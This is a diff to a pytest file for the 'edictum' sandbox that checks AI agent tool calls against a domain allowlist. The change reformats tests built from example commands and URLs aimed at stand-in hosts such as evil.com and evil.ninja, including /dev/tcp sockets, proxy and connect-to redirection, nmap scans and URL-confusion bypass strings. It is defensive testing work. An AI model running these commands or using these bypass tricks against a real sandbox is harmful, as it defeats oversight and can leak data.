@@ -11,7 +11,9 @@ from edictum.contracts.sandbox.domains import Ambiguous, normal_host
 from edictum.core.call import ToolCall
 from edictum.errors import EdictumConfigError
 
-BOX = Sandbox(domains=["good.com", "*.good.com", "münchen.de", "127.0.0.1"], not_domains=["bad.good.com"])
+BOX = Sandbox(
+    domains=["good.com", "*.good.com", "münchen.de", "127.0.0.1"], not_domains=["bad.good.com"]
+)
 
 # name -> (an address elsewhere, an allowed one of the same form)
 ADDRESSES = {
@@ -49,13 +51,22 @@ ADDRESSES = {
     "sixth version in hexadecimal": ("http://[fe80::1]:80/", "http://[::ffff:7f00:1]:80/"),
     "with blanks around": (" https://evil.com ", " https://good.com "),
     "in a sentence": ("see https://evil.com, please", "see https://good.com, please"),
-    "user information behind a semicolon": ("https://good.com;x@evil.com/", "https://a.good.com;x@good.com/?x"),
-    "one slash and a second address": ("evil.com?x=https://good.com", "good.com?x=https://good.com"),
+    "user information behind a semicolon": (
+        "https://good.com;x@evil.com/",
+        "https://a.good.com;x@good.com/?x",
+    ),
+    "one slash and a second address": (
+        "evil.com?x=https://good.com",
+        "good.com?x=https://good.com",
+    ),
     "address in a path": ("evil.com/https://good.com", "good.com/https://a.good.com"),
-    "second host in a sentence": ("see https://good.com, evil.com", "see https://good.com, a.good.com"),
+    "second host in a sentence": (
+        "see https://good.com, evil.com",
+        "see https://good.com, a.good.com",
+    ),
     "several lines": ("https://good.com\nhttps://evil.com", "https://good.com\nhttps://a.good.com"),
     "in brackets": ("[x](https://evil.com)", "[x](https://good.com)"),
-}  # fmt: skip
+}
 
 
 def judge(args: dict[str, Any], tool: str = "fetch") -> str | None:
@@ -78,7 +89,10 @@ COMMANDS = {
     "curl": ("curl https://evil.com/x", "curl https://good.com/x"),
     "without scheme": ("curl evil.com", "curl good.com"),
     "name without dots": ("curl intranet", "curl good.com -o page.html"),
-    "behind options": ("curl -sS -o x.html -H 'a: b' evil.com", "curl -sS -o x.html -H 'a: b' good.com"),
+    "behind options": (
+        "curl -sS -o x.html -H 'a: b' evil.com",
+        "curl -sS -o x.html -H 'a: b' good.com",
+    ),
     "decimal address": ("curl 167772161", "curl 2130706433"),
     "quoted": ('curl "https://evil.com"', 'curl "https://good.com"'),
     "in a script": ("bash -c 'curl https://evil.com'", "bash -c 'curl https://good.com'"),
@@ -92,19 +106,34 @@ COMMANDS = {
     "socket": ("cat < /dev/tcp/evil.com/80", "cat < /dev/tcp/good.com/80"),
     "python": ("python -c \"get('http://evil.com')\"", "python -c \"get('http://good.com')\""),
     "proxy": ("curl --proxy=evil.com:80 good.com", "curl --proxy=good.com:80 good.com"),
-    "another place to connect to": ("curl --connect-to good.com:443:evil.com:443 https://good.com", "curl --retry 3 https://good.com"),
+    "another place to connect to": (
+        "curl --connect-to good.com:443:evil.com:443 https://good.com",
+        "curl --retry 3 https://good.com",
+    ),
     "variable": ("curl https://$HOST_OF_NOBODY/", "H=good.com; curl https://$H/"),
-    "variable with another value": ("H=evil.com; curl https://$H/", "H=good.com curl https://good.com"),
+    "variable with another value": (
+        "H=evil.com; curl https://$H/",
+        "H=good.com curl https://good.com",
+    ),
     "output": ("curl $(cat address)", "curl good.com/$(cat name)"),
     "zero": ("curl 0", "curl --retry 3 --retry-delay 5 good.com"),
     "zero behind an option": ("curl -s 0", "curl -m 5 good.com"),
     "zero for telnet": ("telnet -4 0 6379", "nc -lk 8080"),
-    "second address in the query": ("curl evil.com?x=https://good.com", "curl good.com?x=https://good.com"),
-    "number to connect to": ("curl --connect-to good.com:443:167772161:443 https://good.com", "curl https://good.com:443/a:b"),
+    "second address in the query": (
+        "curl evil.com?x=https://good.com",
+        "curl good.com?x=https://good.com",
+    ),
+    "number to connect to": (
+        "curl --connect-to good.com:443:167772161:443 https://good.com",
+        "curl https://good.com:443/a:b",
+    ),
     "cluster with a file": ("curl -do evil.ninja", "curl -sSLo out.json https://good.com"),
     "cluster with a proxy": ("curl -sxo evil.ninja", "curl -sx good.com:80 good.com"),
     "attached proxy": ("curl -xevil.ninja:80 good.com", "curl -xgood.com:80 good.com"),
-    "proxy by variable": ("https_proxy=evil.ninja:80 curl good.com", "https_proxy=http://good.com:80 curl good.com"),
+    "proxy by variable": (
+        "https_proxy=evil.ninja:80 curl good.com",
+        "https_proxy=http://good.com:80 curl good.com",
+    ),
     "git with an unusual ending": ("git clone git@evil.ninja:a/b", "git push origin v1.2:v1.2"),
     "git without a user": ("git clone evil.ninja:a/b", "git show HEAD@{1}:x.py"),
     "git behind an option": ("git -C x push evil.ninja:a main", "git -C x commit -m 'see a@b: c'"),
@@ -116,7 +145,7 @@ COMMANDS = {
     "name server": ("dig @evil.ninja good.com", "dig @a.good.com good.com"),
     "scan": ("nmap -sS evil.ninja", "nmap -sS -p 80 good.com"),
     "files are no hosts": ("wget evil.io", "cat main.py notes.md a.tar.gz v1.2.3 x.sh"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("name", COMMANDS)
@@ -130,7 +159,14 @@ def test_commands_with_allowed_hosts_pass(name: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "url", ["http://good.com\\@evil.com", "http://evil.com\\.good.com", "http://a b.good.com\x01", "http://[::1/", "http://256.1.1.1"]
+    "url",
+    [
+        "http://good.com\\@evil.com",
+        "http://evil.com\\.good.com",
+        "http://a b.good.com\x01",
+        "http://[::1/",
+        "http://256.1.1.1",
+    ],
 )
 def test_what_programs_read_differently_is_refused(url: str) -> None:
     assert judge({"url": url}) is not None
@@ -138,7 +174,9 @@ def test_what_programs_read_differently_is_refused(url: str) -> None:
 
 @pytest.mark.parametrize("key", ["url", "link"])
 @pytest.mark.parametrize(
-    "between", [*";,'\")}|<>` \t\n", ";\\", ";" + "x" * 600, ";" + "x" * 6000, "\n\n"], ids=lambda text: repr(text)[:8]
+    "between",
+    [*";,'\")}|<>` \t\n", ";\\", ";" + "x" * 600, ";" + "x" * 6000, "\n\n"],
+    ids=lambda text: repr(text)[:8],
 )
 def test_nothing_behind_the_allowed_host_hides_where_it_leads(between: str, key: str) -> None:
     assert judge({key: f"https://good.com{between}@evil.ninja/"}) is not None
@@ -146,7 +184,13 @@ def test_nothing_behind_the_allowed_host_hides_where_it_leads(between: str, key:
 
 
 @pytest.mark.parametrize(
-    "url", ["https://good.com\t.evil.ninja/", "https://good.com\nevil.ninja/a b", "a" * 41 + ".evil.ninja://good.com/", "0"]
+    "url",
+    [
+        "https://good.com\t.evil.ninja/",
+        "https://good.com\nevil.ninja/a b",
+        "a" * 41 + ".evil.ninja://good.com/",
+        "0",
+    ],
 )
 def test_what_clients_join_or_guess_is_judged(url: str) -> None:
     assert judge({"url": url}) is not None
@@ -182,10 +226,15 @@ def test_any_depth_and_any_key(args: dict[str, Any]) -> None:
 
 
 def test_the_sentences_name_domain_and_bounds() -> None:
-    assert judge({"url": "http://evil.com"}) == (
-        "Domain 'evil.com' is not one of the allowed domains: good.com, *.good.com, xn--mnchen-3ya.de, 127.0.0.1."
+    assert (
+        judge({"url": "http://evil.com"})
+        == "Domain 'evil.com' is not one of the allowed domains: good.com, *.good.com,"
+        " xn--mnchen-3ya.de, 127.0.0.1."
     )
-    assert judge({"url": "http://bad.good.com"}) == "Domain 'bad.good.com' matches the forbidden domain bad.good.com."
+    assert (
+        judge({"url": "http://bad.good.com"})
+        == "Domain 'bad.good.com' matches the forbidden domain bad.good.com."
+    )
 
 
 def test_only_forbidden_domains() -> None:
@@ -218,18 +267,25 @@ def test_no_form(host: str) -> None:
         normal_host(host)
 
 
-@pytest.mark.parametrize("pattern", [".evil.com", "a..evil.com", "*..evil.com", "https://evil.com", "*.evil.com/x", "evil.com:80"])
+@pytest.mark.parametrize(
+    "pattern",
+    [".evil.com", "a..evil.com", "*..evil.com", "https://evil.com", "*.evil.com/x", "evil.com:80"],
+)
 def test_a_pattern_that_no_host_has_is_an_error(pattern: str) -> None:
     with pytest.raises(EdictumConfigError, match="cannot be used"):
         Sandbox(not_domains=[pattern])
 
 
-@pytest.mark.parametrize("bounds", [{"domains": ["a b"]}, {"not_domains": [""]}, {"within": ["a\0b"]}], ids=str)
+@pytest.mark.parametrize(
+    "bounds", [{"domains": ["a b"]}, {"not_domains": [""]}, {"within": ["a\0b"]}], ids=str
+)
 def test_bounds_that_mean_nothing_are_an_error_of_the_configuration(bounds: dict[str, Any]) -> None:
     with pytest.raises(EdictumConfigError):
         Sandbox(**bounds)
 
 
-@pytest.mark.parametrize("host", ["::1", "fe80::1%eth0", "[::1]", "localhost", "intranet", "10.0.0.1"])
+@pytest.mark.parametrize(
+    "host", ["::1", "fe80::1%eth0", "[::1]", "localhost", "intranet", "10.0.0.1"]
+)
 def test_a_bare_host_under_its_key_is_judged(host: str) -> None:
     assert judge({"host": host}) is not None
